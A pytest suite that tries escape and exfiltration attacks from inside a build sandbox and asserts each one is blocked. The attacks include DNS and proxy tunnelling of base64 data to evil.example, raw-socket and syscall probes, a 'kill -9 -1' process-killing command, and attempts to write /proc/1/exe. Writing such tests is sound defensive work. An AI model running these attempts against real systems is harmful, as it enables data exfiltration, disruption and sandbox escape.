"""What a build may try against the kernel, the resolver and its neighbours' services, from within a real sandbox."""

from __future__ import annotations

import json
import platform
import socket
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from adapters.egress import EgressPolicy
from adapters.sandbox import Command, Limits, Outcome, Sandbox, capabilities, seccomp

LIMITS = Limits(wall=60, memory=1 << 29, pids=100, disk=1 << 29, log=1 << 20)

pytestmark = pytest.mark.skipif(not capabilities().ok, reason="no sandbox here")


class Box:
    def __init__(self, sandbox: Sandbox, workspace: Path) -> None:
        self.sandbox, self.workspace, self.text = sandbox, workspace, ""

    def python(self, program: str, *words: str, egress: EgressPolicy | None = None) -> Outcome:
        return self.run(["/usr/bin/python3", "-c", program, *words], egress)

    def run(self, argv: list[str], egress: EgressPolicy | None = None) -> Outcome:
        heard = bytearray()
        command = Command(argv, self.workspace, LIMITS, egress=egress)
        outcome = self.sandbox.run(command, lambda _, data: heard.extend(data), lambda: False)
        self.text = heard.decode(errors="replace")
        return outcome


@pytest.fixture(scope="module")
def box(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Box]:
    if not Path("/usr/bin/python3").exists():
        pytest.skip("the attacks are written for /usr/bin/python3")
    sandbox = Sandbox(state=tmp_path_factory.mktemp("state"), slots=1)
    with sandbox.workspace() as workspace:
        yield Box(sandbox, workspace)


CALLS = """
import ctypes, errno, json, sys
libc = ctypes.CDLL(None, use_errno=True)
answers = {}
for number in json.loads(sys.argv[1]):
    ctypes.set_errno(0)
    libc.syscall(ctypes.c_long(number), *[ctypes.c_long(-1)] * 6)
    answers[number] = errno.errorcode.get(ctypes.get_errno(), "0")
print(json.dumps(answers))
"""


@pytest.mark.skipif(not seccomp.supported(), reason="no filter for this processor")
def test_the_kernel_answers_every_denied_call_as_the_filter_says(box: Box) -> None:
    column = seccomp.MACHINES[platform.machine()].column
    denied = {pair[column]: name for name, pair in seccomp.DENIED.items() if pair[column] is not None}
    absent = {pair[column]: name for name, pair in seccomp.ABSENT.items()}
    assert box.python(CALLS, json.dumps([*denied, *absent])).ok, box.text
    answers = {int(number): code for number, code in json.loads(box.text).items()}
    assert {name: answers[number] for number, name in denied.items() if answers[number] != "EPERM"} == {}
    assert {name: answers[number] for number, name in absent.items() if answers[number] != "ENOSYS"} == {}


SOCKETS = """
import socket
for family in (socket.AF_PACKET, socket.AF_VSOCK, socket.AF_ALG, socket.AF_CAN, socket.AF_BLUETOOTH, socket.AF_TIPC):
    try:
        socket.socket(family, socket.SOCK_RAW)
        print("opened", family)
    except OSError as error:
        print(error.strerror)
for kind in (socket.SOCK_RAW,):
    try:
        socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
        print("opened", kind)
    except OSError as error:
        print(error.strerror)
"""


def test_no_sockets_but_those_that_builds_need(box: Box) -> None:
    assert box.python(SOCKETS).ok
    lines = box.text.splitlines()
    assert lines[:-1] == ["Address family not supported by protocol"] * (len(lines) - 1)
    assert lines[-1] == "Operation not permitted"


TUNNEL = """
import socket
def tried(what, work):
    try:
        print(what, "reached", work())
    except OSError as error:
        print(what, "refused")
def datagram(address, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    s.sendto(b"canary", (address, port)); return s.recv(10)
def asked(host):
    s = socket.create_connection(("127.0.0.1", 3128), 5)
    s.sendall(f"CONNECT {host}:443 HTTP/1.1\\r\\n\\r\\n".encode())
    answer = s.recv(200)
    if b" 200 " not in answer.splitlines()[0]:
        raise OSError
    return answer
tried("resolver", lambda: socket.getaddrinfo("Y2FuYXJ5.evil.example", 443))
tried("resolver of an allowed name", lambda: socket.gethostbyname("Y2FuYXJ5.allowed.example"))
tried("udp 53", lambda: datagram("8.8.8.8", 53))
tried("udp to itself", lambda: datagram("127.0.0.53", 53))
tried("proxy", lambda: asked("Y2FuYXJ5.evil.example"))
tried("proxy below an allowed name", lambda: asked("Y2FuYXJ5.allowed.example"))
"""


def test_names_carry_nothing_out(box: Box, monkeypatch: pytest.MonkeyPatch) -> None:
    """No resolver inside, and the proxy asks none for a name that is not allowed: DNS is no way out either."""
    resolved: list[str] = []
    real = socket.getaddrinfo

    def noted(host: str, *rest: object, **more: object) -> object:
        resolved.append(host)
        return real(host, *rest, **more)  # type: ignore[arg-type]

    monkeypatch.setattr(socket, "getaddrinfo", noted)
    outcome = box.python(TUNNEL, egress=EgressPolicy.of(["allowed.example"]))
    assert outcome.ok, box.text
    answers = [line for line in box.text.splitlines() if not line.startswith("egress:")]
    assert [line for line in answers if "reached" in line] == []
    assert len(answers) == 6
    assert not [host for host in resolved if "Y2FuYXJ5" in str(host)]
    assert set(outcome.denied) == {"y2fuyxj5.evil.example:443", "y2fuyxj5.allowed.example:443"}


def test_a_unix_socket_of_the_platform_is_out_of_reach(box: Box, tmp_path: Path) -> None:
    """Neither by its path, nor by the descriptors of its builder: what would a stolen broker credential be good for?"""
    path = tmp_path / "broker.sock"
    with socket.socket(socket.AF_UNIX) as broker:
        broker.bind(str(path))
        path.chmod(0o777)
        broker.listen()
        program = (
            "import os, socket, sys\n"
            "for pid in os.listdir('/proc'):\n"
            "    if pid.isdigit():\n"
            "        for fd in os.listdir(f'/proc/{pid}/fd') if os.access(f'/proc/{pid}/fd', os.R_OK) else []:\n"
            "            try: print('fd', os.readlink(f'/proc/{pid}/fd/{fd}'))\n"
            "            except OSError: pass\n"
            "s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect(sys.argv[1]); print('reached')\n"
        )
        assert not box.python(program, str(path)).ok
        broker.settimeout(0.1)
        with pytest.raises(TimeoutError):
            broker.accept()
    assert "reached" not in box.text
    held = [line.split(" ", 1)[1] for line in box.text.splitlines() if line.startswith("fd ")]
    assert not [one for one in held if one.startswith(("/", "socket:")) and not one.startswith(("/dev/", "/proc/"))]


SIGNALS = "kill -9 -1; kill -9 1; kill -STOP 1; kill -9 $PPID; kill -TERM 0; sleep 1; exit 9"


def test_a_build_that_kills_everybody_kills_itself_alone(box: Box) -> None:
    outcome = box.run(["bash", "-c", SIGNALS])
    assert not outcome.ok
    assert outcome.limit is None
    assert box.run(["echo", "fine"]).ok
    assert box.text == "fine\n"


@pytest.mark.skipif(sys.platform != "linux", reason="Linux only")
def test_the_first_process_is_no_way_out(box: Box) -> None:
    """It belongs to the same confinement: its memory is the build's to ruin, its root and namespaces are the same."""
    script = (
        "for ns in mnt net pid user ipc uts; do [ $(readlink /proc/1/ns/$ns) = $(readlink /proc/self/ns/$ns) ] "
        "|| echo other $ns; done; ls /proc/1/root/ > /tmp/a; ls / > /tmp/b; cmp /tmp/a /tmp/b; "
        "grep -E '^(CapEff|CapPrm|CapBnd|Seccomp|NoNewPrivs):' /proc/1/status; echo x > /proc/1/exe && echo written"
    )
    box.run(["bash", "-c", script])
    lines = box.text.splitlines()
    assert "Seccomp:\t2" in lines
    assert "NoNewPrivs:\t1" in lines
    assert {line.split("\t")[1] for line in lines if line.startswith("Cap")} == {"0" * 16}
    assert not [line for line in lines if line.startswith("other") or "differ" in line or line == "written"]
